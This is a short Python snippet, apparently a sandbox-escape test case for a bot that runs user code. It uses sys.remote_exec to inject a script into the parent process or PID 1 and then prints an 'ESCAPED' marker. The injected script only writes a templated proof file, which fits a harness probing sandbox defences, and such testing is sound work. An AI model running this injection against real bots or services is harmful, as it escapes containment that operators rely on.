# run a script in the process of the bot
import os, sys
open('/tmp/x.py', 'w').write('open("{{PROOF}}", "w")')
sys.remote_exec(os.getppid() or 1, '/tmp/x.py')
print('ESCAPED: remote_exec')
